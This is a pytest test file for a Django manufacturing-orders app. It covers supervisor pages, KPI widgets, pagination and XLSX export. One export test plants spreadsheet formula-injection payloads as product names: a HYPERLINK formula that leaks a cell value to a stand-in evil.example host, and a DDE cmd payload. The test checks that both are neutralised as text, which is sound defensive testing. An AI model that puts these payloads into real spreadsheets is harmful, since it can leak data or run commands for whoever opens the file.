"""Supervisor pages of the orders domain on the ingested demo workbook: content, values and pinned query counts."""

from __future__ import annotations

import json
import re
import statistics
from collections import Counter
from io import BytesIO

import pytest
from django.contrib.auth.models import Group, User

from orders.models import ManufacturingOrder, OrderPhase

HX = {"HTTP_HX_REQUEST": "true"}


@pytest.fixture
def supervisor(db):
    from prodplan.roles import SUPERVISORS, ensure_role_groups

    ensure_role_groups()
    user = User.objects.create_user("sup", password="pw-sup-123")
    user.groups.add(Group.objects.get(name=SUPERVISORS))
    return user


@pytest.fixture
def sclient(client, supervisor):
    client.force_login(supervisor)
    return client


def _open_at(as_of):
    return [o for o in ManufacturingOrder.objects.values("id", "created_at", "finished_at")
            if (o["created_at"] is None or o["created_at"] <= as_of) and (o["finished_at"] is None or o["finished_at"] > as_of)]


def _states_at(as_of) -> dict[int, dict]:
    """The order states at as_of by the independent restatement of ORDER_STATE_RULE (snapshot: the ingestion's)."""
    from orders.models import OrderAbandonment
    from tests.orders import independent
    from tests.orders.conftest import read_frames

    abandoned = set(OrderAbandonment.objects.values_list("order_id", flat=True))
    return independent.order_states(read_frames(), as_of, snapshot_at=as_of, abandoned=abandoned)


def _warm(client, as_of) -> None:
    """Compute the per-as-of values the production code caches (thresholds at as_of, phase names, the data's as-of)
    with another request, so the pinned counts measure the page itself."""
    client.get("/orders/?status=DONE", HTTP_HX_REQUEST="true")


def test_pages_need_login(client, db):
    for url in ("/", "/orders/", "/orders/1/", "/quality/", "/inventory/", "/whatif/", "/models/", "/ingestion/"):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith("/accounts/login/"), url


def test_login_page_has_labelled_inputs(client, db):
    html = client.get("/accounts/login/").content.decode()
    assert html.count("<h1") == 1
    for field in ("id_username", "id_password"):
        assert f'<label for="{field}"' in html and f'id="{field}"' in html


def test_overview_page_lazy_widgets_and_freshness(sclient, ingested, pinned_queries):
    from ingestion.models import Reject

    with pinned_queries("orders.test_views.test_overview_page_lazy_widgets_and_freshness"):
        html = sclient.get("/").content.decode()
    assert html.count("<h1") == 1
    for widget in ("kpis", "wip", "bottlenecks", "risk"):
        assert f'hx-get="/?widget={widget}"' in html and 'hx-trigger="load"' in html
    assert f"#{ingested['run_id']}" in html
    assert f'data-rejects-open="{Reject.objects.filter(status="open").count()}"' in html
    assert 'href="/ingestion/"' in html


def test_overview_kpis_match_the_api_and_the_rows(sclient, ingested, pinned_queries):
    with pinned_queries("orders.test_views.test_overview_kpis_match_the_api_and_the_rows"):
        html = sclient.get("/?widget=kpis", **HX).content.decode()
    api = sclient.get("/api/kpis/overview").json()
    raw = dict(re.findall(r'data-kpi="(\w+)" data-raw="([^"]*)"', html))
    assert float(raw["lead_time_p50"]) == api["lead_time_days"]["value"]["p50"]
    assert float(raw["throughput"]) == api["throughput_per_week"]["value"]
    assert int(raw["wip"]) == api["wip"]["value"]["count"]
    assert float(raw["rework"]) == api["rework_rate"]["value"]
    # independent: WIP = the active orders at as-of (open, neither stalled nor abandoned); p50 of lead times
    # finished in the window
    as_of = ingested["as_of"]
    states = _states_at(as_of)
    active = [s for s in states.values() if s["state"] in ("not_started", "waiting", "in_progress")]
    assert int(raw["wip"]) == len(active) > 0
    assert len(_open_at(as_of)) == sum(1 for s in states.values() if s["state"] != "finished")
    from django.utils.dateparse import parse_datetime

    start, end = parse_datetime(api["from"]), parse_datetime(api["to"])
    leads = [(o["finished_at"] - o["created_at"]).total_seconds() / 86400 for o in
             ManufacturingOrder.objects.filter(finished_at__gte=start, finished_at__lt=end).values("created_at", "finished_at")
             if o["created_at"] and o["finished_at"] >= o["created_at"]]
    assert float(raw["lead_time_p50"]) == pytest.approx(statistics.median(leads), abs=1e-3)
    assert "observado" in html or "observed" in html


def test_overview_widgets_render(sclient, ingested):
    wip = sclient.get("/?widget=wip", **HX).content.decode()
    config = json.loads(re.search(r'<script id="chart-wip" type="application/json">(.*?)</script>', wip, re.S).group(1))
    assert len(config["data"]["datasets"]) == 3  # not started, waiting, in progress
    located = [sum(d["data"]) for d in config["data"]["datasets"]]
    states = Counter(s["state"] for s in _states_at(ingested["as_of"]).values())
    assert located == [states["not_started"], states["waiting"], states["in_progress"]] and sum(located) > 0
    assert sum(located) + states["stalled"] + states["abandoned"] == len(_open_at(ingested["as_of"]))
    risk = sclient.get("/?widget=risk", **HX).content.decode()
    assert 0 < risk.count('href="/orders/') <= 10
    assert "<table" in sclient.get("/?widget=bottlenecks", **HX).content.decode()


def test_order_list_keyset_pages_and_filters(sclient, ingested, pinned_queries):
    as_of = ingested["as_of"]
    expected = sorted((o["id"] for o in ManufacturingOrder.objects.values("id", "created_at")
                       if o["created_at"] is None or o["created_at"] <= as_of), reverse=True)
    _warm(sclient, as_of)
    with pinned_queries("orders.test_views.test_order_list_keyset_pages_and_filters"):  # with the as-of's thresholds cached
        html = sclient.get("/orders/").content.decode()
    first = [int(x) for x in re.findall(r'data-order-id="(\d+)"', html)]
    assert first == expected[:50]
    assert html.count("<h1") == 1 and 'id="load-more"' in html
    with pinned_queries("orders.test_views.test_order_list_keyset_pages_and_filters[2]"):
        more = sclient.get(f"/orders/?after={first[-1]}", **HX).content.decode()
    assert [int(x) for x in re.findall(r'data-order-id="(\d+)"', more)] == expected[50:100]
    done = sclient.get("/orders/?status=DONE", **HX).content.decode()
    finished = sorted((o["id"] for o in ManufacturingOrder.objects.values("id", "finished_at")
                       if o["finished_at"] and o["finished_at"] <= as_of), reverse=True)
    assert [int(x) for x in re.findall(r'data-order-id="(\d+)"', done)] == finished[:50]
    assert "badge-LATE" not in done and "badge-IN_PROGRESS" not in done
    target = expected[3]
    hit = sclient.get(f"/orders/?q={target}", **HX).content.decode()
    assert str(target) in re.findall(r'data-order-id="(\d+)"', hit)


def test_order_export_is_the_current_filter(sclient, ingested):
    from openpyxl import load_workbook

    as_of = ingested["as_of"]
    response = sclient.get("/orders/export.xlsx?status=DONE", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content), read_only=True)["orders"]
    rows = list(sheet.iter_rows(values_only=True))
    finished = {o["id"] for o in ManufacturingOrder.objects.values("id", "finished_at") if o["finished_at"] and o["finished_at"] <= as_of}
    assert rows[0][0] == "Order" and {r[0] for r in rows[1:]} == finished
    assert int(response["X-Exported-Rows"]) == len(finished)
    status_at = rows[0].index("Status against lead time")
    assert {r[status_at] for r in rows[1:]} == {"Done"}  # words, not the DONE code
    # In pt-PT the sheet, the headers and the codes are Portuguese words.
    pt = load_workbook(BytesIO(sclient.get("/orders/export.xlsx?status=DONE", HTTP_ACCEPT_LANGUAGE="pt-pt").content),
                       read_only=True)["ordens"]
    pt_rows = list(pt.iter_rows(values_only=True))
    assert pt_rows[0][0] == "Ordem" and "Situação face ao prazo" in pt_rows[0]
    assert {r[pt_rows[0].index("Situação face ao prazo")] for r in pt_rows[1:]} == {"Concluída"}
    assert {r[pt_rows[0].index("Estado")] for r in pt_rows[1:]} == {"Concluída"}


def test_order_export_writes_workbook_text_as_text_not_formulas(sclient, ingested):
    """A product name that looks like a formula (from the ERP's workbook) is exported as text (review finding)."""
    import zipfile

    from openpyxl import load_workbook

    from orders.models import Product

    as_of = ingested["as_of"]
    done = ManufacturingOrder.objects.filter(finished_at__lte=as_of, product_id__isnull=False).order_by("id")
    first, second = done.values_list("product_id", flat=True).distinct()[:2]
    names = {first: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', second: "=cmd|' /C calc'!A0"}
    for product_id, name in names.items():
        Product.objects.filter(pk=product_id).update(name=name)  # the test transaction's rollback restores it
    response = sclient.get("/orders/export.xlsx?status=DONE", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    with zipfile.ZipFile(BytesIO(response.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(BytesIO(response.content))["orders"]
    header = [c.value for c in sheet[1]]
    at_product, at_name = header.index("Product id"), header.index("Product")
    exported = {row[at_product].value: row[at_name] for row in sheet.iter_rows(min_row=2)}
    for product_id, name in names.items():
        assert exported[product_id].value == name and exported[product_id].data_type == "s"


def test_order_detail_gantt_errors_and_prediction(sclient, ingested, pinned_queries):
    from quality.models import QualityError

    order_id = (QualityError.objects.values_list("order_id", flat=True)
                .filter(order_id__in=ManufacturingOrder.objects.values("id")).first())
    _warm(sclient, ingested["as_of"])
    with pinned_queries("orders.test_views.test_order_detail_gantt_errors_and_prediction"):  # with the as-of's thresholds cached
        html = sclient.get(f"/orders/{order_id}/").content.decode()
    assert html.count("<h1") == 1 and f"{order_id}" in html
    started = OrderPhase.objects.filter(order_id=order_id, started_at__isnull=False).count()
    svg = re.search(r'<svg class="gantt".*?</svg>', html, re.S).group(0)
    assert svg.count('<rect class="bar ') + svg.count("<circle") == started  # forecast bars are apart (test_order_forecast)
    errors = QualityError.objects.filter(order_id=order_id).count()
    table = re.search(r'<table id="error-table">.*?</table>', html, re.S).group(0)
    assert table.count("<tr>") == errors + 1
    prediction = sclient.get(f"/orders/{order_id}/?widget=prediction", **HX).content.decode()
    assert 'id="prediction"' in prediction
    # no trained model here: the baseline answers an open order, and the page says why in words, not in codes
    open_order = ManufacturingOrder.objects.filter(finished_at__isnull=True).order_by("-created_at").values_list(
        "id", flat=True).first()
    pt = sclient.get(f"/orders/{open_order}/?widget=prediction", HTTP_ACCEPT_LANGUAGE="pt-pt", **HX).content.decode()
    for english in ("no active model", "no baseline registered", "(baseline)", "baseline level", ": product<"):
        assert english not in pt, english
    assert "referência de base" in pt
    assert sclient.get("/orders/999999999/").status_code == 404
